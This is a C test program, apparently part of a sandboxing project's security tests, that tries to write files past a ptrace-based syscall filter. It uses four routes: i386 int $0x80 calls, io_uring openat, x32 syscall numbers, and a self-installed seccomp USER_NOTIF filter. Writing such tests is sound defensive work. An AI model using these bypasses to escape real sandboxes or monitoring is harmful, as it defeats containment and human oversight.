// A hostile app for security/ptrace_redirection.sh: system calls the ptrace backend's
// filters may not see. Plain C, no project warnings: it calls the kernel the way an
// attacker would.
//   ptrace_escape i386 PATH TEXT   open(PATH, O_WRONLY|O_CREAT|O_TRUNC) and write TEXT
//                                  through the i386 ABI (int $0x80) from a 64-bit process
//   ptrace_escape uring PATH TEXT  the same open through io_uring's IORING_OP_OPENAT,
//                                  then write(2)
//   ptrace_escape x32 PATH         openat through the x32 ABI (nr | 0x40000000)
//   ptrace_escape notif PATH TEXT  the same open behind a seccomp filter of the app's own
//                                  that returns USER_NOTIF for openat (it outranks the
//                                  supervisor's TRACE); a helper process answers CONTINUE
// Exit status 0 when the open succeeded, 1 when it was refused, 2 for bad usage.
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/io_uring.h>
#include <linux/seccomp.h>
#include <stddef.h>
#include <stdio.h>
#include <string.h>
#include <signal.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

#if defined(__x86_64__)
static long i386_call(long nr, long a, long b, long c) {
  long ret;
  __asm__ volatile("int $0x80" : "=a"(ret) : "a"(nr), "b"(a), "c"(b), "d"(c) : "memory");
  return ret;
}

static int via_i386(const char* path, const char* text) {
  // int $0x80 takes 32-bit pointers: the strings go below 4 GiB.
  char* low = mmap(NULL, 8192, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
  if (low == MAP_FAILED || strlen(path) >= 4096 || strlen(text) >= 4096) return 2;
  strcpy(low, path);
  strcpy(low + 4096, text);
  // i386 numbers: open 5, write 4, close 6; O_WRONLY|O_CREAT|O_TRUNC
  long fd = i386_call(5, (long)(unsigned long)low, 01 | 0100 | 01000, 0644);
  printf("i386 open = %ld\n", fd);
  if (fd < 0) return 1;
  i386_call(4, fd, (long)(unsigned long)(low + 4096), (long)strlen(text));
  i386_call(6, fd, 0, 0);
  return 0;
}
#else
static int via_i386(const char* path, const char* text) {
  (void)path;
  (void)text;
  return 2;  // the i386 ABI exists only beside x86_64
}
#endif

static int via_uring(const char* path, const char* text) {
  struct io_uring_params p;
  memset(&p, 0, sizeof p);
  int ring = (int)syscall(SYS_io_uring_setup, 4, &p);
  if (ring < 0) {
    perror("io_uring_setup");
    return 1;
  }
  char* sq = mmap(0, p.sq_off.array + p.sq_entries * sizeof(unsigned), PROT_READ | PROT_WRITE,
                  MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQ_RING);
  char* cq = mmap(0, p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe), PROT_READ | PROT_WRITE,
                  MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_CQ_RING);
  struct io_uring_sqe* sqes = mmap(0, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE,
                                   MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQES);
  if (sq == MAP_FAILED || cq == MAP_FAILED || sqes == MAP_FAILED) return 1;
  memset(&sqes[0], 0, sizeof sqes[0]);
  sqes[0].opcode = IORING_OP_OPENAT;
  sqes[0].fd = AT_FDCWD;
  sqes[0].addr = (unsigned long)path;
  sqes[0].len = 0644;
  sqes[0].open_flags = O_WRONLY | O_CREAT | O_TRUNC;
  unsigned* tail = (unsigned*)(sq + p.sq_off.tail);
  ((unsigned*)(sq + p.sq_off.array))[*tail & *(unsigned*)(sq + p.sq_off.ring_mask)] = 0;
  __atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
  if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0) {
    perror("io_uring_enter");
    return 1;
  }
  unsigned head = *(unsigned*)(cq + p.cq_off.head);
  struct io_uring_cqe* c = (struct io_uring_cqe*)(cq + p.cq_off.cqes) + (head & *(unsigned*)(cq + p.cq_off.ring_mask));
  printf("io_uring openat = %d\n", c->res);
  if (c->res < 0) return 1;
  if (write(c->res, text, strlen(text)) < 0) return 1;
  return 0;
}

static int send_fd(int sock, int fd) {
  char buf[CMSG_SPACE(sizeof fd)];
  memset(buf, 0, sizeof buf);
  char c = 'x';
  struct iovec io = {&c, 1};
  struct msghdr m;
  memset(&m, 0, sizeof m);
  m.msg_iov = &io;
  m.msg_iovlen = 1;
  m.msg_control = buf;
  m.msg_controllen = sizeof buf;
  struct cmsghdr* cm = CMSG_FIRSTHDR(&m);
  cm->cmsg_level = SOL_SOCKET;
  cm->cmsg_type = SCM_RIGHTS;
  cm->cmsg_len = CMSG_LEN(sizeof fd);
  memcpy(CMSG_DATA(cm), &fd, sizeof fd);
  return sendmsg(sock, &m, 0) == 1 ? 0 : -1;
}

static int recv_fd(int sock) {
  char buf[CMSG_SPACE(sizeof(int))];
  char c;
  struct iovec io = {&c, 1};
  struct msghdr m;
  memset(&m, 0, sizeof m);
  m.msg_iov = &io;
  m.msg_iovlen = 1;
  m.msg_control = buf;
  m.msg_controllen = sizeof buf;
  if (recvmsg(sock, &m, 0) != 1 || !CMSG_FIRSTHDR(&m)) return -1;
  int fd;
  memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&m)), sizeof fd);
  return fd;
}

static int via_user_notif(const char* path, const char* text) {
  int sv[2];
  if (socketpair(AF_UNIX, SOCK_STREAM, 0, sv) != 0) return 1;
  pid_t helper = fork();
  if (helper == 0) {  // answers every notification: run the call as it is
    int listener = recv_fd(sv[1]);
    struct seccomp_notif req;
    struct seccomp_notif_resp resp;
    for (;;) {
      memset(&req, 0, sizeof req);
      if (listener < 0 || ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &req) != 0) _exit(0);
      memset(&resp, 0, sizeof resp);
      resp.id = req.id;
      resp.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
      ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &resp);
    }
  }
  struct sock_filter f[] = {
      BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
      BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_openat, 0, 1),
      BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
      BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
  };
  struct sock_fprog prog = {sizeof f / sizeof f[0], f};
  int listener = (int)syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &prog);
  printf("seccomp(NEW_LISTENER) = %d\n", listener);
  if (listener < 0 || send_fd(sv[0], listener) != 0) {
    kill(helper, SIGKILL);
    return 1;
  }
  int fd = openat(AT_FDCWD, path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
  printf("openat behind USER_NOTIF = %d\n", fd);
  if (fd >= 0 && write(fd, text, strlen(text)) < 0) fd = -1;
  kill(helper, SIGKILL);
  return fd >= 0 ? 0 : 1;
}

int main(int argc, char** argv) {
  if (argc >= 4 && strcmp(argv[1], "notif") == 0) return via_user_notif(argv[2], argv[3]);
  if (argc >= 4 && strcmp(argv[1], "i386") == 0) return via_i386(argv[2], argv[3]);
  if (argc >= 4 && strcmp(argv[1], "uring") == 0) return via_uring(argv[2], argv[3]);
  if (argc >= 3 && strcmp(argv[1], "x32") == 0) {
    long fd = syscall(0x40000000 | SYS_openat, AT_FDCWD, argv[2], O_WRONLY | O_CREAT, 0644);
    printf("x32 openat = %ld\n", fd);
    return fd >= 0 ? 0 : 1;
  }
  fprintf(stderr, "usage: ptrace_escape i386|uring|notif PATH TEXT | x32 PATH\n");
  return 2;
}
